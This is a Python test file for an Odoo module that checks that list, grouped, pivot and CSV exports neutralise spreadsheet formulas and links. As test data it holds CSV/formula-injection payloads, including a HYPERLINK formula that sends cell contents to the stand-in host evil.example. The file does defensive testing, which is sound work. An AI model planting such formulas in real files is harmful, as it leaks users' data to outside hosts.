import csv
import io
import json
import zipfile

import xlsxwriter

from odoo.tests import tagged

from .common import PASSWORD, STAFF, GuardHttpCase

FORMULA = '=HYPERLINK("http://evil.example?"&A1,"open")'
RISKY = [
    FORMULA,
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "http://evil.example/track",
    "＝1+1",
]
TYPED = ("<f>", "<f ", "<hyperlink", 't="str"')


@tagged("post_install", "-at_install")
class TestExports(GuardHttpCase):
    """N4: no exported file runs or calls anything."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.staff_user.group_ids += cls.env.ref("base.group_allow_export")
        cls.partners = cls.env["res.partner"].create(
            [{"name": "Guard export", "ref": text, "color": -7} for text in RISKY]
        )

    def setUp(self):
        super().setUp()
        self.authenticate(STAFF, PASSWORD)

    def export(self, kind, groupby=()):
        names = ("ref", "color")
        data = {
            "model": "res.partner",
            "fields": [{"name": n, "label": n, "type": "char"} for n in names],
            "ids": self.partners.ids,
            "domain": [],
            "groupby": list(groupby),
            "import_compat": False,
        }
        form = {"data": json.dumps(data), "csrf_token": self.csrf_token()}
        answer = self.url_open(f"/web/export/{kind}", data=form)
        self.assertEqual(answer.status_code, 200)
        return answer.content

    def sheet(self, content):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            return archive.read("xl/worksheets/sheet1.xml").decode()

    def assertNothingLive(self, content):
        sheet = self.sheet(content)
        for tag in TYPED:
            self.assertNotIn(tag, sheet)

    def test_list_export_to_xlsx_has_no_formula_and_no_link(self):
        self.assertNothingLive(self.export("xlsx"))

    def test_grouped_export_to_xlsx_has_no_formula_and_no_link(self):
        self.assertNothingLive(self.export("xlsx", groupby=["ref"]))

    def test_pivot_export_has_no_formula_and_no_link(self):
        data = {
            "title": "Guard",
            "model": "res.partner",
            "measure_count": 1,
            "col_group_headers": [[{"width": 1, "height": 1, "title": FORMULA}]],
            "measure_headers": [{"title": FORMULA, "is_bold": False}],
            "rows": [{"title": FORMULA, "indent": 0, "values": [{"value": FORMULA}]}],
        }
        form = {"data": json.dumps(data), "csrf_token": self.csrf_token()}
        answer = self.url_open("/web/pivot/export_xlsx", data=form)
        self.assertEqual(answer.status_code, 200)
        self.assertNothingLive(answer.content)

    def test_csv_export_marks_what_could_run_and_keeps_numbers(self):
        rows = list(csv.reader(io.StringIO(self.export("csv").decode(), newline="")))
        self.assertEqual(rows[0], ["ref", "color"])
        exported = {row[0] for row in rows[1:]}
        harmless = {"http://evil.example/track"}
        marked = {"'" + text for text in RISKY if text not in harmless}
        self.assertEqual(exported, marked | harmless)
        self.assertEqual({row[1] for row in rows[1:]}, {"-7"})

    def test_writer_that_wants_a_formula_still_gets_it(self):
        output = io.BytesIO()
        with xlsxwriter.Workbook(output, {"in_memory": True}) as workbook:
            workbook.add_worksheet("a/b").write_formula(0, 0, "=1+1")
        self.assertIn("<f>1+1</f>", self.sheet(output.getvalue()))
